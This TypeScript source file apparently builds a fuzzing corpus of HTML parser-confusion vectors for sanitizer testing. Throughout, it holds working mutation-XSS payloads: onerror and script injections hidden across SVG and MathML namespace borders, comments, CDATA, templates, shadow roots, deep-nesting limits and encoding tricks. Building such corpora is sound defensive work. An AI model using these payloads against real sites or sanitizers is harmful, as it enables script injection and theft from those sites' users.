import { combine, family, type Vector } from './vector.ts';

/** What runs where a parser comes out of what it took for text. */
const OUT = '<img src=x:x onerror={RUN}>';

/** Elements whose content is text in HTML and elements in drawings and formulas, or the other way round; `%` is where a way out stands. */
const TEXT_ELEMENTS: Record<string, string> = {
  style: '<style><a title="</style>%">',
  title: '<title><a title="</title>%">',
  textarea: '<textarea><a title="</textarea>%">',
  noscript: '<noscript><p title="</noscript>%">',
  xmp: '<xmp><p title="</xmp>%">',
  iframe: '<iframe><p title="</iframe>%">',
  noembed: '<noembed><p title="</noembed>%">',
  noframes: '<noframes><p title="</noframes>%">',
  script: '<script><p title="</script>%">',
  template: '<template><p title="</template>%">',
  comment: '<!--<p title="-->%">-->',
  'comment that ends at once': '<!-->%-->',
  'comment with an odd end': '<!-- a --!>%-->',
  'comment in an attribute': '<a title="<!--">--&gt;%<b title="-->">',
  'CDATA section': '<![CDATA[<p title="]]>%">]]>',
  'processing instruction': '<?x <p title="?>%">?>',
  select: '<select><option><p title="</select>%"></select>%',
  plaintext: '<plaintext><p title="</plaintext>%">%',
  'end tag of p': '</p>%<p>',
  'end tag of br': '</br>%',
  'escaped text': '&lt;/style&gt;&lt;img src=x:x onerror={RUN}&gt;',
};

/** Where it stands: parsers change their rules at these borders. */
const WORLDS: Record<string, string> = {
  HTML: '<div>@</div>',
  'a drawing': '<svg>@</svg>',
  'a drawing after an end tag': '<svg></p>@</svg>',
  'a foreign object': '<svg><foreignObject>@</foreignObject></svg>',
  'the title of a drawing': '<svg><title>@</title></svg>',
  'the description of a drawing': '<svg><desc>@</desc></svg>',
  'a formula': '<math>@</math>',
  'the text of a formula': '<math><mtext>@</mtext></math>',
  'a letter of a formula': '<math><mi>@</mi></math>',
  'an annotation in HTML': '<math><annotation-xml encoding="text/html">@</annotation-xml></math>',
  'an annotation in XML': '<math><annotation-xml encoding="application/xml">@</annotation-xml></math>',
  'glyphs in a table': '<math><mtext><table><mglyph>@</mglyph></table></mtext></math>',
  'a bad glyph': '<math><mtext><mglyph><malignmark>@</malignmark></mglyph></mtext></math>',
  'a form in a form': '<form><math><mtext></form><form><mglyph>@</mglyph></form></mtext></math>',
  'a table': '<table><tr>@</tr></table>',
  'a drawing in a formula': '<math><mi><svg><mtext>@</mtext></svg></mi></math>',
};

const worlds = combine(WORLDS, TEXT_ELEMENTS, (world, text) => world.replace('@', text.replaceAll('%', OUT)));

const shapes = family('mutation', [
  // What is parsed differently the second time.
  `<form><math><mtext></form><form><mglyph><style></math>${OUT}`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:x onerror={RUN}&gt;">`,
  `<math><mtext><table><mglyph><style><math>${OUT}`,
  `<svg></p><style><a id="</style>${OUT}">`,
  `<svg><style><a title="</style>${OUT}">`,
  `<math><style><a title="</style>${OUT}">`,
  `<svg><desc><style><a title="</style>${OUT}"></style></desc></svg>`,
  `<math><mi><style><!--</style>--&gt;${OUT}</mi></math>`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--&gt;${OUT}">`,
  `<math><annotation-xml encoding="text/html"><style></math><!--</style>--&gt;${OUT}`,
  `<a><svg><a><style><p title="</style>${OUT}">`,
  `<b><svg><p></b><style><b title="</style>${OUT}">`,
  `<table><a><table><svg><style><a title="</style>${OUT}">`,
  `<p><table><p><svg><desc><table><style><a title="</style>${OUT}">`,
  `<svg><p><style><g title="</style>${OUT}">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${OUT}"></style></h1>`,
  `<!DOCTYPE html><svg><![CDATA[<style>]]></svg>${OUT}`,
  `<svg><![CDATA[</svg>${OUT}]]></svg>`,
  `<math><![CDATA[><img src=x:x onerror={RUN}>]]></math>`,
  `<select><template><style><!--</style>--&gt;${OUT}</template></select>`,
  `<template><s><template><s>${OUT}</s></template></s></template>`,
  `<div><template shadowrootmode="open">${OUT}<script>{RUN}</script></template></div>`,
  `<p><template shadowrootmode="closed" shadowrootclonable><slot></slot>${OUT}</template>a</p>`,
  `<option><style></option></select><b>${OUT}</b></style></option>`,
  `<noscript><style></noscript>${OUT}</style>`,
  `<noscript><svg><style></noscript>${OUT}`,
  `<dl><dt><svg><title><p></title></svg><style></dt>${OUT}`,
  `<a title='</title></style></script>-->"${OUT}'>a</a>`,
  `<p title="</p></style></title></textarea></noscript></xmp>${OUT}">a</p>`,
  `<img alt="${OUT.replaceAll('"', '')}" src="{PICTURE}">`,
  `<ruby><rt><math><mi><p><style><!--</style>--&gt;${OUT}`,
  `<optgroup><svg><style></optgroup>${OUT}</style></svg>`,
  `<frameset>${OUT}</frameset>`,
  `<xmp><svg><b><style><b title='</style>${OUT}'>`,
  `<svg><foreignObject><math><mtext><svg><style><a title="</style>${OUT}">`,
  `<svg xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></svg>`,
  `<math xmlns="http://www.w3.org/1999/xhtml"><mtext xmlns="x">${OUT}</mtext></math>`,
  `<svg:script>{RUN}</svg:script><x:script xmlns:x="http://www.w3.org/1999/xhtml">{RUN}</x:script>`,
  `<math><mo xml:base="javascript:{RUN}//" xlink:href="#">a</mo></math>`,
  `<math><maction actiontype="statusline#javascript:{RUN}" xlink:href="javascript:{RUN}">a</maction></math>`,
  `<math><semantics><annotation encoding="text/html">${OUT}</annotation></semantics></math>`,
  `<ul><li><template><li></template><svg><style></li>${OUT}`,
  '<p>\u2028<!--\u0000-->\ufffd<\u0000img src=x:x onerror={RUN}>',
  '+ADw-script+AD4-{RUN}+ADw-/script+AD4-',
  '\ufeff<script>{RUN}</script>',
  '<\u00adscript>{RUN}</script><＜script＞{RUN}＜/script＞',
  '%3Cscript%3E{RUN}%3C/script%3E',
  '&lt;script&gt;{RUN}&lt;/script&gt;',
  '&amp;lt;img src=x:x onerror={RUN}&amp;gt;',
]);

/** Elements within which a parser forgets what is open around them; once they are gone, what they held could not stand there. */
const borders = combine(
  Object.fromEntries(
    'button object applet marquee fieldset form select template noscript x-y font label details figure'
      .split(' ')
      .map((name) => [name, name]),
  ),
  {
    'paragraphs in a paragraph': '<p>a<@><p>b</p></@></p>',
    'links in a link': '<a href="/a">a<@><a href="/b">b</a></@></a>',
    'headings in a heading': '<h2>a<@><h3>b</h3></@></h2>',
    'items in an item': '<ul><li>a<@><li>b</li></@></li></ul>',
    'terms in a term': '<dl><dt>a<@><dd>b</dd></@></dt></dl>',
    'boxes in a paragraph': '<p>a<@><div>b</div><ul><li>c</ul><table><td>d</table><pre>e</pre><hr></@></p>',
    'boxes in emphasis': '<em>a<@><p>b<b>c</@></em>d</b>',
    'readings in a reading': '<ruby>a<rt>b<@><rt>c<rp>d</@></ruby>',
    'a table in a row': '<table><tr><@><td>a</td></@>b</tr><caption>c</caption></table>',
    'HTML in a formula': '<math><mtext>a<@><p>b<p>c</p></p></@></mtext></math>',
  },
  (border, inside) => inside.replaceAll('@', border),
);

const nest = (open: string, close: string, deep: number, inside: string): string =>
  open.repeat(deep) + inside + close.repeat(deep);

/** Parsers give up nesting at some depth (512 elements in Chromium's), which moves what stands there elsewhere. */
const depths = combine(
  { '511 deep': '511', '600 deep': '600', '3000 deep': '3000' },
  {
    div: 'div',
    b: 'b',
    font: 'font',
    a: 'a',
    table: 'table><tr><td',
    math: 'math><mtext',
    svg: 'svg><desc',
    form: 'form',
  },
  (deep, name) =>
    nest(`<${name}>`, '', Number(deep), `<svg><style><a title="</style>${OUT}"></style></svg><style>${OUT}</style>`),
);

export const confusion: readonly Vector[] = [...worlds, ...shapes, ...borders, ...depths];
